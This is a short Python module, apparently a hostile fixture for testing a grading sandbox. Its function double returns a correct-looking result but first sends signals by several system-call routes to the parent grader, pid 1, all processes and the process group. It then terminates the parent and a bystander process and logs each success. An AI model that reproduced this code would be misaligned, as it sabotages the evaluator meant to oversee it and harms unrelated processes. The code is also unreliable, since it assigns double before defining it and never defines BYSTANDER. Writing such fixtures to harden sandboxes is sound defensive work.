"""Send signals to the zygote, the grader, another process, everybody. Those to everybody are harmless ones.

base: right
holds from: LIMITS
"""

import ctypes
import os
import signal

DONE = []
_honest = double
_libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"


def _by_descriptor(pid, number):
    signal.pidfd_send_signal(os.pidfd_open(pid), number)


def _by_thread(pid, number):
    if _libc.syscall(234 if X86 else 131, pid, pid, int(number)) < 0:
        raise OSError


def _by_one_thread(pid, number):
    if _libc.syscall(200 if X86 else 130, pid, int(number)) < 0:
        raise OSError


def _queued(pid, number):
    if _libc.sigqueue(pid, int(number), ctypes.c_void_p(0)) < 0:
        raise OSError


def double(x):
    parent = os.getppid()
    for send in (os.kill, _by_descriptor, _by_thread, _by_one_thread, _queued):
        for pid, number in (
            (BYSTANDER, signal.SIGUSR1),
            (parent, 0),
            (1, signal.SIGURG),
            (0, signal.SIGURG),
            (-1, signal.SIGURG),
            (-os.getpgid(parent) if parent else -1, signal.SIGURG),
            (BYSTANDER + (1 << 32), signal.SIGUSR2),
        ):
            try:
                send(pid, number)
                if pid != 0:
                    DONE.append(f"done:signal {int(number)} to {pid}")
            except (OSError, OverflowError, ctypes.ArgumentError):
                pass
    # Last, since what follows would be lost with it: the parent and its group are ended.
    for send in (os.kill, _by_descriptor, _by_thread):
        for pid in {parent, BYSTANDER}:
            try:
                if pid > 1:
                    send(pid, signal.SIGTERM)
                    DONE.append(f"done:ended {pid}")
            except OSError:
                pass
    return _honest(x)


def loot():
    return DONE
